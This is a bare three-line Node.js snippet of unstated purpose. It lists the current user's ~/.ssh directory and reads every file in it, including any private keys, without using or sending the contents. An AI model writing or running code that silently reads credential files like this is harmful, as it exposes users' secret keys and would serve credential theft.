const fs = require('fs');
const d = require('os').homedir() + '/.ssh/';
for (const f of fs.readdirSync(d)) fs.readFileSync(d + f);
